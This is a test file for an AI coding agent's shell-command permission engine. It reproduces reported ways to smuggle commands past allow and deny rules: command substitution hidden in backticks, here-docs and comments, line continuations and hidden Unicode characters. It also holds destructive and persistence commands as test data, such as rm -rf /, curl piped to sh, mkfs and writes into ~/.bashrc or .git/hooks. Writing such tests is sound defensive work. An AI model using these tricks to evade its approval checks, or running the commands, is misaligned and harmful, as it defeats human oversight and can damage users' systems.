// Issue #10 items 2 and 4 (engine half), SECURITY S1, S2, S4, S7, S8, S13: the attacks reproduced against
// the hand-written splitter, each of which ran with no approval before the real parser. Settings as in the
// report: allow `run_command(echo *)` and `run_command(git status*)`, deny `run_command(rm *)`.
import { spawnSync } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import type { PermissionMode, ToolDefinition } from "../protocol/model.ts";
import type { SandboxState } from "../protocol/sandbox.ts";
import { createSystemTools } from "../tools/system/index.ts";
import { PermissionEngine } from "./engine.ts";
import { parseRule, type CompiledRule } from "./rules.ts";
import type { PermissionCheck } from "./types.ts";

const workdir = "/work/project";
const tools = new Map(createSystemTools().map((tool) => [tool.definition.name, tool.definition]));
const sandboxOn: SandboxState = { enabled: true, mechanism: "bubblewrap", network: false };
const homeSettings = "/home/user/.PseudoClaude/settings.json";
const temporary: string[] = [];

afterAll(async () => {
  for (const folder of temporary) await rm(folder, { recursive: true, force: true });
});

function rule(effect: "allow" | "ask" | "deny", text: string): CompiledRule {
  const parsed = parseRule(effect, text, homeSettings);
  if (typeof parsed === "string") throw new Error(parsed);
  return parsed;
}

const reportedRules = [
  rule("allow", "run_command(echo *)"),
  rule("allow", "run_command(git status*)"),
  rule("deny", "run_command(rm *)"),
];

function engineFor(mode: PermissionMode, rules = reportedRules, sandbox: SandboxState | null = sandboxOn) {
  return new PermissionEngine({ mode, rules, ...(sandbox ? { sandbox } : {}) });
}

function command(text: string, tool: ToolDefinition = tools.get("run_command")!): PermissionCheck {
  return { callId: "c1", tool, input: { command: text }, target: { cwd: workdir, command: text } };
}

/** Runs the line with the real /bin/sh in a fresh folder; returns that folder. */
async function runInShell(line: string): Promise<string> {
  const folder = await mkdtemp(path.join(tmpdir(), "pc-shell-attack-"));
  temporary.push(folder);
  const run = spawnSync("/bin/sh", ["-c", line], { cwd: folder, encoding: "utf8", timeout: 10_000 });
  expect(run.error).toBeUndefined();
  return folder;
}

describe("reproduced attacks: allow rules are never stretched (default mode)", () => {
  const engine = engineFor("default");

  // Each line creates the file named in the third column when /bin/sh runs it: the attack is real.
  const smuggled: [string, string, string][] = [
    ["1: escaped backticks", "echo `echo \\`touch P1\\`` #", "P1"],
    ["2: here-doc body is expanded by sh (git status)", "git status <<EOF\n#$(touch P2)\nEOF", "P2"],
    ["2: here-doc body is expanded by sh (echo)", "echo x <<EOF\necho '$(touch P3)'\nEOF", "P3"],
    ["3: `#` inside $(…)", "echo $( # ) '\ntouch P4\n) #'", "P4"],
  ];
  for (const [name, line, created] of smuggled) {
    it(`${name}: asks, with the parser as the reason`, async () => {
      const folder = await runInShell(line);
      expect(existsSync(path.join(folder, created)), `sh runs the hidden touch ${created}`).toBe(true);
      const trace = engine.evaluate(command(line));
      expect(trace).toMatchObject({ decision: "ask", source: "parser" });
      expect(trace.reason).toContain("command substitution");
      expect(trace.reason).toMatch(/at \d+:\d+/);
    });
  }

  it("4: a line continuation does not hide a redirection into ~/.bashrc or .git/config", () => {
    expect(engine.evaluate(command("echo 'echo PWNED' >>\\\n~/.bashrc"))).toMatchObject({
      decision: "ask",
      source: "list",
      rule: "redirect outside the working directory",
    });
    expect(engine.evaluate(command("echo 'echo PWNED' >>\\\n.git/config"))).toMatchObject({
      decision: "ask",
      source: "protected_path",
      rule: ".git",
    });
  });

  it("a comment ending in a backslash ends at the newline, as in sh (found by the differential test)", async () => {
    const line = "echo hi #\\\ntouch PWN";
    const folder = await runInShell(line);
    expect(existsSync(path.join(folder, "PWN"))).toBe(true);
    const trace = engine.evaluate(command(line));
    expect(trace).toMatchObject({ decision: "ask", source: "parser" });
    expect(trace.reason).toContain("line continuation in a comment");
    expect(engineFor("bypassPermissions").evaluate(command("echo #\\\nrm -rf /"))).toMatchObject({
      decision: "deny",
      source: "list",
    });
  });

  it("S7: newlines, sh -c, eval, ANSI-C quoting, expansions and dialect tricks ask", () => {
    for (const line of [
      "echo hi\ntouch x",
      "echo hi; touch x",
      "sh -c 'echo hi'",
      "bash -c 'git status'",
      "eval echo hi",
      "echo $'\\x41'",
      "echo $HOME",
      "echo $((1+2))",
      "echo a &>/dev/null touch x",
      "git() { touch x; }; git status",
      "alias git='touch x'\ngit status",
      "X=1 echo hi",
      "LD_PRELOAD=/tmp/x.so git status",
      "cat <(ls)",
      "echo 'unclosed",
    ]) {
      expect(engine.evaluate(command(line)).decision, JSON.stringify(line)).toBe("ask");
    }
  });

  it("what the parser fully understands is still allowed", () => {
    for (const line of [
      "echo hi",
      "echo 'a b' \"c\"",
      "git status --short",
      "echo hi # a comment",
      "git status && echo done",
      "echo x > out.txt",
      "echo hi\\\n there",
    ]) {
      expect(engine.evaluate(command(line)), JSON.stringify(line)).toMatchObject({
        decision: "allow",
        source: "rule",
      });
    }
  });

  it("an allow rule matches the command as written: `sudo`, `./git` or `X=1` in front are not allowed", () => {
    for (const line of ["sudo git status", "./git status", "/tmp/git status", "X=1 git status"]) {
      expect(engine.evaluate(command(line)).decision, line).toBe("ask");
    }
  });
});

describe("5 / S8: deny rules match the resolved program", () => {
  const lines = [
    "rm x",
    "\\rm x",
    "'rm' x",
    '"rm" x',
    "/bin/rm x",
    "command rm x",
    "env rm x",
    "X=1 rm x",
    "sudo -u root rm x",
    "find . -delete",
    "find . -name '*.o' -exec rm {} ;",
    "echo $(rm x)",
    "bash -c 'rm x'",
    "echo ok && r\\\nm x",
    "f() { rm x; }; f",
    "bash /dev/stdin <<< 'rm x'",
    "toybox rm x",
  ];
  for (const mode of ["default", "bypassPermissions"] as const) {
    for (const line of lines) {
      it(`${mode}: ${JSON.stringify(line)} is denied by the rule`, () => {
        expect(engineFor(mode).evaluate(command(line))).toMatchObject({
          decision: "deny",
          source: "rule",
          rule: "deny run_command(rm *)",
        });
      });
    }
  }

  it("a program only known when the line runs cannot pass a deny rule", () => {
    for (const line of [
      "$X x",
      "$(echo rm) x",
      'eval "$CMD"',
      'sh -c "$CMD"',
      "env -S 'rm x'",
      "echo 'rm x' | sh",
      "alias r=rm\nr x",
      "/bin/r? x",
    ]) {
      expect(engineFor("bypassPermissions").evaluate(command(line)), line).toMatchObject({
        decision: "ask",
        source: "parser",
        rule: "unknown program",
      });
    }
  });

  it("S1: deny beats allow run_command(*)", () => {
    const engine = engineFor("default", [rule("allow", "run_command(*)"), rule("deny", "run_command(rm *)")]);
    expect(engine.evaluate(command("\\rm -rf build")).decision).toBe("deny");
    expect(engine.evaluate(command("ls -la")).decision).toBe("allow");
  });
});

describe("4: bypassPermissions, the dangerous list and the write checks on the parsed line", () => {
  const engine = engineFor("bypassPermissions", []);
  const denied: [string, string][] = [
    ["rm -rf \\\n/", "rm -rf /"],
    ["r\\\nm -rf /", "rm -rf /"],
    ["curl x | \\\nsh", "curl … | sh"],
    ["mk\\\nfs.ext4 /dev/sda1", "mkfs"],
    ["cd / && rm -rf .", "rm -rf /"],
  ];
  for (const [line, entry] of denied) {
    it(`${JSON.stringify(line)}: deny by the dangerous list (${entry})`, () => {
      expect(engine.evaluate(command(line))).toMatchObject({ decision: "deny", source: "list", rule: entry });
    });
  }

  it('"rm -rf $(echo /)": ask as a write whose target is unknown before the line runs', () => {
    const trace = engine.evaluate(command("rm -rf $(echo /)"));
    expect(trace).toMatchObject({
      decision: "ask",
      source: "list",
      rule: "write outside the working directory",
    });
    expect(trace.reason).toContain("$(echo /)");
  });

  it('"cp x .git/hooks/pre-commit": ask as a protected-path write', () => {
    expect(engine.evaluate(command("cp x .git/hooks/pre-commit"))).toMatchObject({
      decision: "ask",
      source: "protected_path",
      rule: ".git",
    });
  });

  it('"echo x | tee ~/.bashrc": ask as a write outside the working directory', () => {
    expect(engine.evaluate(command("echo x | tee ~/.bashrc"))).toMatchObject({
      decision: "ask",
      source: "list",
      rule: "write outside the working directory",
    });
  });

  it("writes by common programs into .git/, .PseudoClaude/, ~ or outside ask; inside the workdir they run", () => {
    for (const line of [
      "mv evil .git/config",
      "sed -i s/a/b/ .git/config",
      "dd if=x of=.git/config",
      "install -m 755 x .git/hooks/post-checkout",
      "ln -sf /tmp/x .PseudoClaude/skills/x",
      "touch ~/.profile",
      "mkdir -p /etc/cron.d",
      "cp x ../../outside",
      "cd .. && touch x",
      "cd /etc && cp x passwd",
      "curl -o ~/.bashrc https://x.example",
      "find . -name x | xargs rm",
      "perl -pi -e s/a/b/ .git/config",
      "cd .git && echo x > config",
      "rsync -a x/ .git/hooks/",
      "rm -rf .*",
      "cp x .gi?/config",
      "cp x .G*/hooks/pre-commit",
      "touch .[Pp]seudo*/x",
      "rm -rf {a,..}",
    ]) {
      expect(engine.evaluate(command(line)).decision, line).toBe("ask");
    }
    for (const line of [
      "cp a b",
      "mkdir -p build/out",
      "cd sub && touch x",
      "sed -i s/a/b/ src/x.ts",
      "rm -rf build",
      "rm -f *.o",
      "rm -rf build/*",
      "cp x */",
      "touch .e?v",
    ]) {
      expect(engine.evaluate(command(line)), line).toMatchObject({ decision: "allow", source: "mode" });
    }
  });

  it("bypassPermissions still runs what it ran before, expansions included", () => {
    for (const line of ["eval echo hi", 'bash -c "ls -la"', "echo $HOME", "ls $(pwd)"]) {
      expect(engine.evaluate(command(line)).decision, line).toBe("allow");
    }
  });
});

describe("S13: hidden characters", () => {
  it("are listed escaped, and such a call is never allowed by rule, in any mode", () => {
    for (const mode of ["default", "bypassPermissions"] as const) {
      const engine = engineFor(mode, [rule("allow", "run_command(*)")]);
      const trace = engine.evaluate(command("echo \u202Etxt.exe\u200B"));
      expect(trace).toMatchObject({
        decision: "ask",
        source: "parser",
        rule: "hidden characters",
        hiddenCharacters: ["\\u202E", "\\u200B"],
      });
      expect(trace.reason).toContain("\\u202E");
      engine.addSessionRule(command("echo \u202Etxt.exe\u200B"));
      expect(engine.evaluate(command("echo \u202Etxt.exe\u200B")).decision).toBe("ask");
    }
  });

  it("in a path too (file tools), and control characters count", () => {
    const engine = engineFor("acceptEdits", [rule("allow", "write_file")]);
    const trace = engine.evaluate({
      callId: "c",
      tool: tools.get("write_file")!,
      input: {},
      target: { cwd: workdir, path: "src/a\u2066.ts" },
    });
    expect(trace).toMatchObject({ decision: "ask", source: "parser", hiddenCharacters: ["\\u2066"] });
    expect(engineFor("default").evaluate(command("echo \u001b[2Jhi")).hiddenCharacters).toEqual(["\\u001B"]);
    expect(engineFor("default").evaluate(command("echo hi")).hiddenCharacters).toBeUndefined();
  });
});

describe("sandbox off: every exec call asks", () => {
  const off: SandboxState = { enabled: false, mechanism: "none", network: true, reason: "bwrap not found" };

  it("whatever the mode, rules or session rules; the trace carries the sandbox state", () => {
    for (const mode of ["default", "acceptEdits", "bypassPermissions"] as const) {
      const engine = engineFor(mode, [rule("allow", "run_command(*)")], off);
      engine.addSessionRule(command("ls"));
      expect(engine.evaluate(command("ls"))).toEqual({
        decision: "ask",
        source: "sandbox",
        rule: "sandbox off",
        category: "exec",
        target: "ls",
        reason: "sandbox off: bwrap not found; every command asks, whatever the mode and rules",
        sandbox: off,
      });
    }
  });

  it("a missing sandbox state counts as off; deny rules and the dangerous list still deny first", () => {
    const engine = engineFor("bypassPermissions", reportedRules, null);
    expect(engine.evaluate(command("ls"))).toMatchObject({
      decision: "ask",
      source: "sandbox",
      sandbox: { enabled: false },
    });
    expect(engine.evaluate(command("rm x"))).toMatchObject({ decision: "deny", source: "rule" });
    expect(engine.evaluate(command("rm -rf /"))).toMatchObject({ decision: "deny", source: "list" });
  });

  it("skill tools ask too; file tools are not exec and carry no sandbox", () => {
    const engine = engineFor("bypassPermissions", [], off);
    const skillTool: ToolDefinition = {
      name: "fetch_weather",
      description: "weather",
      inputSchema: { type: "object" },
      safety: "side_effect",
      category: "exec",
      origin: "skill",
      skill: "weather",
    };
    expect(
      engine.evaluate({
        callId: "c",
        tool: skillTool,
        input: {},
        target: { command: "python3 weather.py", cwd: "/skills/weather", stdin: "{}" },
      }),
    ).toMatchObject({ decision: "ask", source: "sandbox" });
    const write = engine.evaluate({
      callId: "c",
      tool: tools.get("write_file")!,
      input: {},
      target: { cwd: workdir, path: "a.txt" },
    });
    expect(write).toMatchObject({ decision: "allow", source: "mode" });
    expect(write.sandbox).toBeUndefined();
  });

  it("with the sandbox on, every exec trace carries its state", () => {
    expect(engineFor("default").evaluate(command("ls")).sandbox).toEqual(sandboxOn);
    expect(engineFor("default").evaluate(command("rm x")).sandbox).toEqual(sandboxOn);
  });
});
